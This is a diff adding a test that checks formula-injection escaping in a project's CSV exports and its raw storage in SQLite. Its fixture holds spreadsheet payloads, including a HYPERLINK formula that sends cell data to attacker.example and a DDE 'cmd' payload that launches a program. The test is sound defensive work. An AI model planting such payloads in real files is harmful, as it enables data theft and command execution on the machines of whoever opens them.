@@ -141,6 +141,55 @@ def test_it_answers_404_naming_a_file_not_in_the_export(api: APIClient, db: None
     assert "passwords.csv" in response.json()["detail"]
 
 
+FORMULAS = {
+    "name": '=HYPERLINK("https://attacker.example/?"&A1,"Open")',
+    "city": "+1-1@SUM(A1)",
+    "operator": "@SUM(1+1)*cmd|' /C calc'!A0",
+}
+
+
+def sqlite_row(query: str, *parameters: object) -> tuple[object, ...]:
+    database = sqlite3.connect(export_path(SQLITE_NAME))
+    try:
+        return tuple(database.execute(query, parameters).fetchone())
+    finally:
+        database.close()
+
+
+def test_it_escapes_formulas_in_the_export_csv_as_the_api_csv_does_and_keeps_them_raw_in_sqlite(
+    api: APIClient, db: None
+) -> None:
+    with committed():
+        case = CaseFactory(
+            facility__name=FORMULAS["name"],
+            facility__city=FORMULAS["city"],
+            facility__operator__name=FORMULAS["operator"],
+        )
+    facility = case.facility
+
+    exported = next(row for row in csv_rows("facilities.csv") if row["id"] == str(facility.pk))
+    case_row = next(row for row in csv_rows("cases.csv") if row["case_id"] == case.case_id)
+    company_row = next(row for row in csv_rows("companies.csv") if row["id"] == str(facility.operator_id))
+    answered = api.get("/api/v1/public/facilities/", {"format": "csv"})
+    listed = next(csv.DictReader(io.StringIO(answered.content.decode())))
+
+    assert (exported["name"], exported["city"]) == ("'" + FORMULAS["name"], "'" + FORMULAS["city"])
+    assert (case_row["facility_name"], case_row["company_name"]) == (
+        "'" + FORMULAS["name"],
+        "'" + FORMULAS["operator"],
+    )
+    assert company_row["name"] == "'" + FORMULAS["operator"]
+    assert (listed["name"], listed["city"]) == (exported["name"], exported["city"])
+    assert exported["state"] == "GUA" and exported["headcount"] == ""
+    assert sqlite_row("SELECT name, city FROM facilities WHERE id = ?", facility.pk) == (
+        FORMULAS["name"],
+        FORMULAS["city"],
+    )
+    assert sqlite_row("SELECT name FROM companies WHERE id = ?", facility.operator_id) == (
+        FORMULAS["operator"],
+    )
+
+
 def test_it_lists_timeline_and_written_corrections_in_the_changelog(
     api: APIClient, imported_cases: None, tmp_path: Path
 ) -> None:
